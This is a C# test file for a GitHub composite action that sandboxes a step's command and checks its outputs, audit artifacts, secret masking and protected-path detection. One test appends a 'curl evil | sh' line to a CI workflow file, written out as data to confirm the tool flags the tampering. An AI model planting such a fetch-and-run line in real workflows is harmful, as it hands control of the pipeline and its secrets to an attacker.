using Nono.Testing;

namespace Nono.Action.Tests.ActionMode;

/// <summary>The composite action's steps end to end on a simulated runner (no GitHub needed).</summary>
public sealed class ActionStepTests
{
    [Theory]
    [InlineData(TestUser.Current)]
    [InlineData(TestUser.Nobody)]
    public async Task CleanRun_WritesOutputsSummaryAndArtifact_AndKeepsRunnerSecretsOut(TestUser user)
    {
        Assert.SkipUnless(user == TestUser.Current || ProcessRunner.IsRoot, "running as uid 65534 needs root");
        using ActionStep runner = new(user);

        (ProcessResult step, ProcessResult gate, Dictionary<string, string> outputs) = await runner.RunAsync(new()
        {
            ["run"] = "echo hello > out.txt; env > seen-env.txt; git config --get-regexp extraheader > seen-git.txt || echo none > seen-git.txt",
        });

        Assert.True(step.ExitCode == 0, step.ToString());
        Assert.Equal(0, gate.ExitCode);
        Assert.Equal("0", outputs["step-exit"]);
        Assert.Equal("0", outputs["violations"]);
        string artifact = outputs["artifact-dir"];
        string id = outputs["session-id"];
        Assert.True(File.Exists(Path.Combine(artifact, "audit", id, "audit-events.ndjson")));
        Assert.True(File.Exists(Path.Combine(artifact, "report.json")));
        Assert.True(File.Exists(Path.Combine(artifact, "violations.sarif")));
        Assert.Contains("out.txt", File.ReadAllText(Path.Combine(artifact, "changes.patch")));
        string summary = File.ReadAllText(runner.SummaryFile);
        Assert.Contains("🟢", summary);
        Assert.Contains("out.txt", summary);
        Assert.Contains("actions/checkout", summary);
        Assert.DoesNotContain(runner.RunnerToken, File.ReadAllText(Path.Combine(runner.Workspace, "seen-env.txt")));
        Assert.DoesNotContain("AUTHORIZATION", File.ReadAllText(Path.Combine(runner.Workspace, "seen-git.txt")));
        Assert.Contains(runner.CheckoutHeader, File.ReadAllText(Path.Combine(runner.Workspace, ".git", "config")));
        Assert.Contains("::add-mask::", step.StandardOutput);
    }

    [Fact]
    public async Task ProtectedPathChanged_FailsTheStepWithAnAnnotation()
    {
        using ActionStep runner = new(Nono.Testing.TestUser.Current);

        (ProcessResult step, ProcessResult gate, Dictionary<string, string> outputs) = await runner.RunAsync(new()
        {
            ["run"] = "echo '  - run: curl evil | sh' >> .github/workflows/ci.yml",
        });

        Assert.Equal(1, step.ExitCode);
        Assert.Equal(1, gate.ExitCode);
        Assert.Equal("0", outputs["exit-code"]);
        Assert.Equal("1", outputs["step-exit"]);
        Assert.Contains("::error title=nono.protected-path-changed,file=.github/workflows/ci.yml", step.StandardOutput);
        Assert.Contains("🔴", File.ReadAllText(runner.SummaryFile));
    }

    [Fact]
    public async Task ProtectedPathChanged_FailOnNone_PassesButStillReports()
    {
        using ActionStep runner = new(Nono.Testing.TestUser.Current);

        (ProcessResult step, _, Dictionary<string, string> outputs) = await runner.RunAsync(new()
        {
            ["run"] = "echo x >> .github/workflows/ci.yml",
            ["fail-on"] = "none",
        });

        Assert.Equal(0, step.ExitCode);
        Assert.Equal("1", outputs["violations"]);
    }

    [Fact]
    public async Task FailingCommand_StepExitIsTheCommands()
    {
        using ActionStep runner = new(Nono.Testing.TestUser.Current);

        (ProcessResult step, ProcessResult gate, Dictionary<string, string> outputs) = await runner.RunAsync(new() { ["run"] = "exit 3" });

        Assert.Equal(3, step.ExitCode);
        Assert.Equal(3, gate.ExitCode);
        Assert.Equal("3", outputs["exit-code"]);
    }

    [Fact]
    public async Task BadInput_FailsFastNamingTheInput()
    {
        using ActionStep runner = new(Nono.Testing.TestUser.Current);

        (ProcessResult step, ProcessResult gate, Dictionary<string, string> outputs) = await runner.RunAsync(new() { ["run"] = "true", ["fail-on"] = "sometimes" });

        Assert.Equal(1, step.ExitCode);
        Assert.NotEqual(0, gate.ExitCode);
        Assert.Contains("::error::nono: input 'fail-on'", step.StandardOutput);
        Assert.Equal("1", outputs["step-exit"]);
    }
}
